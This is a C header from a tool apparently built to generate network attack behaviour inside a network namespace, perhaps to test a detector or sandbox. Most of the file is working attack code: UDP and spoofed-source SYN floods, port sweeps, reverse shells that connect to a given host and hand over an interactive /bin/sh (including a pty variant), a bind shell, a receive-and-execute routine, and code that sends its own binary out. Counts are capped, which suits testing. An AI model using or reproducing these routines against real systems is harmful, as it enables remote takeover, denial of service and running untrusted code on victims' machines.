/*
 * Acts on the network: connections, floods and the shells that hang on a socket. All of them stay in the network
 * namespace that they are run in, and all counts are bounded.
 */
#ifndef YAGURA_ACT_NETWORK_H
#define YAGURA_ACT_NETWORK_H

#include "act.h"

/* Packets that a flood may send: enough to be seen as one, over in a moment. */
#define FLOOD_PACKETS_MAX 20000
/* Connections of a sweep or of a series of attempts. */
#define CONNECTIONS_MAX 2000
/* Bytes of an upload. */
#define UPLOAD_BYTES_MAX (16L * 1024 * 1024)
/* How long a relay serves a shell that says nothing, in milliseconds. */
#define RELAY_IDLE_MS 15000

struct internet_address {
	unsigned short family;
	unsigned char port[2];
	unsigned char host[4];
	unsigned char zero[8];
};

struct unix_address {
	unsigned short family;
	char path[108];
};

static struct internet_address internet(const char *host, long port)
{
	struct internet_address address = { .family = AF_INET };
	int at;

	for (at = 0; at < 4; at++) {
		address.host[at] = (unsigned char)number(host);
		while (*host && *host++ != '.')
			;
	}
	address.port[0] = (unsigned char)(port >> 8);
	address.port[1] = (unsigned char)port;
	return address;
}

/* The address `offset` places behind `base`, on another port. */
static struct internet_address next_to(const struct internet_address *base, long offset, long port)
{
	struct internet_address address = *base;
	unsigned long host = ((unsigned long)base->host[2] << 8 | base->host[3]) + (unsigned long)offset;

	address.host[2] = (unsigned char)(host >> 8);
	address.host[3] = (unsigned char)host;
	address.port[0] = (unsigned char)(port >> 8);
	address.port[1] = (unsigned char)port;
	return address;
}

static int connect_to(const char *host, const char *port)
{
	struct internet_address address = internet(host, any_number(port));
	int fd = (int)CALL3(socket, AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return fd;
	if (CALL3(connect, fd, &address, sizeof(address)) < 0) {
		CALL1(close, fd);
		return -1;
	}
	return fd;
}

static int listen_on(const char *port)
{
	struct internet_address address = internet("0.0.0.0", any_number(port));
	int fd = (int)CALL3(socket, AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || CALL3(bind, fd, &address, sizeof(address)) < 0 || CALL2(listen, fd, 8) < 0)
		return -1;
	return fd;
}

/* Address of a unix socket; a path that begins with '@' is an abstract name. Returns its length. */
static long unix_address(struct unix_address *address, const char *path)
{
	long at = 0;

	address->family = AF_UNIX;
	for (; path[at] && at < (long)sizeof(address->path) - 1; at++)
		address->path[at] = path[at];
	address->path[at] = 0;
	if (path[0] != '@')
		return 2 + at + 1;
	address->path[0] = 0;
	return 2 + at;
}

/* Turns \r, \n and \\ into what they mean, in place; tells the length. */
static long unescape(char *text)
{
	char *to = text, *from = text;

	while (*from) {
		if (*from == '\\' && from[1]) {
			from++;
			*to++ = *from == 'n' ? '\n' : *from == 'r' ? '\r' : *from;
			from++;
		} else {
			*to++ = *from++;
		}
	}
	*to = 0;
	return to - text;
}

/* Sends a text, prints the beginning of the answer, and keeps the connection for a while. */
static int talk(int fd, char *text, const char *hold_ms)
{
	char answer[512];
	long got = 0;

	if (fd < 0)
		return FAILED_OPEN;
	if (write_all(fd, text, unescape(text)) < 0)
		return FAILED_COPY;
	if (wait_ready(fd, POLLIN, ANSWER_MS))
		got = CALL3(read, fd, answer, sizeof(answer));
	if (got > 0)
		CALL3(write, 1, answer, got);
	if (hold_ms)
		sleep_ms(number(hold_ms));
	CALL1(close, fd);
	return got >= 0 ? 0 : FAILED_COPY;
}

/* say HOST PORT TEXT [HOLD_MS] */
static int act_say(int count, char **arguments, char **environment)
{
	(void)environment;
	return talk(connect_to(arguments[0], arguments[1]), arguments[2], count > 3 ? arguments[3] : 0);
}

/* say-unix PATH TEXT */
static int act_say_unix(int count, char **arguments, char **environment)
{
	struct unix_address address;
	long length = unix_address(&address, arguments[0]);
	int fd = (int)CALL3(socket, AF_UNIX, SOCK_STREAM, 0);

	(void)count;
	(void)environment;
	if (CALL3(connect, fd, &address, length) < 0)
		return FAILED_OPEN;
	return talk(fd, arguments[1], 0);
}

/* shim-socket NAME: connects to an abstract socket that it made itself. */
static int act_shim_socket(int count, char **arguments, char **environment)
{
	struct unix_address address;
	long length = unix_address(&address, arguments[0]);
	int server = (int)CALL3(socket, AF_UNIX, SOCK_STREAM, 0);
	int client = (int)CALL3(socket, AF_UNIX, SOCK_STREAM, 0);

	(void)count;
	(void)environment;
	if (CALL3(bind, server, &address, length) < 0 || CALL2(listen, server, 1) < 0)
		return FAILED_OPEN;
	tell("connect", CALL3(connect, client, &address, length));
	return 0;
}

/* upload HOST PORT HEAD BYTES: a request, its answer, then a body of zeros. */
static int act_upload(int count, char **arguments, char **environment)
{
	static char zeros[4096];
	long left = any_number(arguments[3]);
	int fd = connect_to(arguments[0], arguments[1]);
	char answer[512];

	(void)count;
	(void)environment;
	if (fd < 0)
		return FAILED_OPEN;
	if (write_all(fd, arguments[2], unescape(arguments[2])) < 0)
		return FAILED_COPY;
	if (wait_ready(fd, POLLIN, ANSWER_MS))
		CALL3(read, fd, answer, sizeof(answer));
	if (left > UPLOAD_BYTES_MAX)
		left = UPLOAD_BYTES_MAX;
	for (; left > 0; left -= (long)sizeof(zeros))
		if (write_all(fd, zeros, sizeof(zeros)) < 0)
			return FAILED_COPY;
	return 0;
}

/* One connection that does not wait for long; 1 if it was made. */
static int touch_port(const struct internet_address *address)
{
	int fd = (int)CALL3(socket, AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	long result = CALL3(connect, fd, address, sizeof(*address));
	int made = result == 0;

	if (result == -EINPROGRESS)
		made = wait_ready(fd, POLLOUT, SWEEP_MS);
	CALL1(close, fd);
	return made;
}

/* sweep HOST COUNT PORT…: every port of COUNT addresses from HOST on. */
static int act_sweep(int count, char **arguments, char **environment)
{
	struct internet_address base = internet(arguments[0], 0);
	long hosts = any_number(arguments[1]), done = 0, host;
	int port;

	(void)environment;
	for (host = 0; host < hosts; host++) {
		for (port = 2; port < count && done < CONNECTIONS_MAX; port++, done++) {
			struct internet_address address = next_to(&base, host, any_number(arguments[port]));

			touch_port(&address);
		}
	}
	tell("sweep", done);
	return done > 0 ? 0 : FAILED_USAGE;
}

/* attempts HOST PORT COUNT TEXT: short connections to one service, each sending a line and reading the answer. */
static int act_attempts(int count, char **arguments, char **environment)
{
	long left = any_number(arguments[2]), length = unescape(arguments[3]);
	char answer[256];

	(void)count;
	(void)environment;
	for (; left > 0 && left <= CONNECTIONS_MAX; left--) {
		int fd = connect_to(arguments[0], arguments[1]);

		if (fd < 0)
			return FAILED_OPEN;
		if (wait_ready(fd, POLLIN, ANSWER_MS))
			CALL3(read, fd, answer, sizeof(answer));
		write_all(fd, arguments[3], length);
		CALL1(close, fd);
	}
	return 0;
}

/* udp-flood HOST PORT COUNT */
static int act_udp_flood(int count, char **arguments, char **environment)
{
	static const char payload[64];
	struct internet_address address = internet(arguments[0], any_number(arguments[1]));
	long left = any_number(arguments[2]), sent = 0;
	int fd = (int)CALL3(socket, AF_INET, SOCK_DGRAM, 0);

	(void)count;
	(void)environment;
	if (fd < 0)
		return FAILED_OPEN;
	for (; left > 0 && sent < FLOOD_PACKETS_MAX; left--, sent++)
		CALL6(sendto, fd, payload, sizeof(payload), 0, &address, sizeof(address));
	tell("sent", sent);
	return 0;
}

/* dns HOST NAME: asks a DNS server on UDP for the address of a name. */
static int act_dns(int count, char **arguments, char **environment)
{
	struct internet_address address = internet(arguments[0], 53);
	unsigned char query[300] = { 0x59, 0x47, 1, 0, 0, 1 };
	const char *name = arguments[1];
	int fd = (int)CALL3(socket, AF_INET, SOCK_DGRAM, 0), at = 12;
	char answer[512];

	(void)count;
	(void)environment;
	while (*name && at < 250) {
		int label = at++;

		while (*name && *name != '.' && at < 250)
			query[at++] = (unsigned char)*name++;
		query[label] = (unsigned char)(at - label - 1);
		if (*name == '.')
			name++;
	}
	query[at + 2] = 1;
	query[at + 4] = 1;
	if (CALL3(connect, fd, &address, sizeof(address)) < 0)
		return FAILED_OPEN;
	if (CALL6(sendto, fd, query, at + 5, 0, 0, 0) < 0 || !wait_ready(fd, POLLIN, ANSWER_MS))
		return FAILED_COPY;
	return CALL3(read, fd, answer, sizeof(answer)) > 0 ? 0 : FAILED_COPY;
}

/* syn-flood HOST PORT COUNT: TCP openings from sources that don't exist, through a raw socket. */
static int act_syn_flood(int count, char **arguments, char **environment)
{
	struct internet_address address = internet(arguments[0], any_number(arguments[1]));
	/* IPv4 and TCP headers of 20 bytes each; the kernel fills in lengths and the first checksum. */
	unsigned char packet[40] = { 0x45, [8] = 64, [9] = 6, [12] = 10, 77, 9, 1, [32] = 0x50, 0x02, 0x20 };
	long left = any_number(arguments[2]), sent = 0;
	int fd = (int)CALL3(socket, AF_INET, SOCK_RAW, IPPROTO_RAW), at;

	(void)count;
	(void)environment;
	if (fd < 0)
		return FAILED_OPEN;
	for (at = 0; at < 4; at++)
		packet[16 + at] = address.host[at];
	packet[22] = address.port[0];
	packet[23] = address.port[1];
	for (; left > 0 && sent < FLOOD_PACKETS_MAX; left--, sent++) {
		packet[15] = (unsigned char)(1 + sent % 250);
		packet[20] = (unsigned char)(4 + sent / 256 % 250);
		packet[21] = (unsigned char)sent;
		CALL6(sendto, fd, packet, sizeof(packet), 0, &address, sizeof(address));
	}
	tell("sent", sent);
	return 0;
}

/* listen PORT MS */
static int act_listen(int count, char **arguments, char **environment)
{
	(void)count;
	(void)environment;
	if (listen_on(arguments[0]) < 0)
		return FAILED_OPEN;
	sleep_ms(number(arguments[1]));
	return 0;
}

static int become_shell(int in, int out, char **environment)
{
	char *shell[] = { "sh", "-i", 0 };

	CALL3(dup3, in, 0, 0);
	CALL3(dup3, out, 1, 0);
	CALL3(dup3, out, 2, 0);
	CALL3(execve, "/bin/sh", shell, environment);
	return FAILED_EXEC;
}

/* Carries bytes between a socket and a shell until either ends. */
static int relay(int socket, int from_shell, int to_shell)
{
	struct poll_entry entries[2] = { { socket, POLLIN, 0 }, { from_shell, POLLIN, 0 } };
	struct {
		long seconds;
		long nanoseconds;
	} span = { RELAY_IDLE_MS / 1000, 0 };
	char buffer[1024];

	while (CALL5(ppoll, entries, 2, &span, 0, 8) > 0) {
		int of_socket = entries[0].found != 0;
		long got = CALL3(read, of_socket ? socket : from_shell, buffer, sizeof(buffer));

		if (got <= 0 || write_all(of_socket ? to_shell : socket, buffer, got) < 0)
			return 0;
	}
	return 0;
}

static int shell_by_pipes(int fd, char **environment)
{
	int in[2], out[2];
	long child;

	if (CALL2(pipe2, in, 0) < 0 || CALL2(pipe2, out, 0) < 0)
		return FAILED_OPEN;
	child = fork_process();
	if (child == 0) {
		/* Else it would keep its own input open for ever. */
		CALL1(close, in[1]);
		CALL1(close, fd);
		return become_shell(in[0], out[1], environment);
	}
	CALL1(close, out[1]);
	return child < 0 ? FAILED_EXEC : relay(fd, out[0], in[1]);
}

#define TIOCSPTLCK 0x40045431
#define TIOCGPTN 0x80045430

static int shell_by_terminal(int fd, char **environment)
{
	char path[32] = "/dev/pts/";
	int terminal = open_file("/dev/ptmx", O_RDWR), unlock = 0, index = 0, at = 9;
	long child;

	if (terminal < 0 || CALL3(ioctl, terminal, TIOCSPTLCK, &unlock) < 0 ||
	    CALL3(ioctl, terminal, TIOCGPTN, &index) < 0)
		return FAILED_OPEN;
	if (index >= 10)
		path[at++] = (char)('0' + index / 10 % 10);
	path[at] = (char)('0' + index % 10);
	child = fork_process();
	if (child == 0) {
		int other;

		CALL1(setsid, 0);
		other = open_file(path, O_RDWR);
		CALL1(close, terminal);
		CALL1(close, fd);
		return other < 0 ? FAILED_OPEN : become_shell(other, other, environment);
	}
	return child < 0 ? FAILED_EXEC : relay(fd, terminal, terminal);
}

/* shell dup|late|pipe|pty HOST PORT: an interactive shell for whoever listens there. */
static int act_shell(int count, char **arguments, char **environment)
{
	struct internet_address address = internet(arguments[1], any_number(arguments[2]));
	int fd = (int)CALL3(socket, AF_INET, SOCK_STREAM, 0), copy;

	(void)count;
	if (same(arguments[0], "late"))
		for (copy = 0; copy < 3; copy++)
			CALL3(dup3, fd, copy, 0);
	if (CALL3(connect, fd, &address, sizeof(address)) < 0)
		return FAILED_OPEN;
	if (same(arguments[0], "pipe"))
		return shell_by_pipes(fd, environment);
	if (same(arguments[0], "pty"))
		return shell_by_terminal(fd, environment);
	return become_shell(fd, fd, environment);
}

/* bind-shell PORT: an interactive shell for the first who connects. */
static int act_bind_shell(int count, char **arguments, char **environment)
{
	int server = listen_on(arguments[0]), fd;

	(void)count;
	if (server < 0 || !wait_ready(server, POLLIN, RELAY_IDLE_MS))
		return FAILED_OPEN;
	fd = (int)CALL4(accept4, server, 0, 0, 0);
	return become_shell(fd, fd, environment);
}

/* send-self HOST PORT: sends the program's own file. */
static int act_send_self(int count, char **arguments, char **environment)
{
	int self = open_file("/proc/self/exe", O_RDONLY);
	int fd = connect_to(arguments[0], arguments[1]);

	(void)count;
	(void)environment;
	if (self < 0 || fd < 0)
		return FAILED_OPEN;
	return copy_all(self, fd) < 0 ? FAILED_COPY : 0;
}

/* receive PORT PATH [ARGUMENT…]: writes what the first who connects sends, and runs it as a child. */
static int act_receive(int count, char **arguments, char **environment)
{
	int server = listen_on(arguments[0]), status = 0, fd, file;
	long child;

	(void)count;
	if (server < 0 || !wait_ready(server, POLLIN, RELAY_IDLE_MS))
		return FAILED_OPEN;
	fd = (int)CALL4(accept4, server, 0, 0, 0);
	file = create_program(arguments[1]);
	if (fd < 0 || file < 0)
		return FAILED_OPEN;
	if (copy_all(fd, file) < 0)
		return FAILED_COPY;
	CALL1(close, file);
	CALL1(close, fd);
	child = fork_process();
	if (child == 0) {
		CALL3(execve, arguments[1], arguments + 1, environment);
		return FAILED_EXEC;
	}
	if (child < 0 || CALL4(wait4, child, &status, 0, 0) < 0)
		return FAILED_EXEC;
	return exit_code(status);
}

#endif
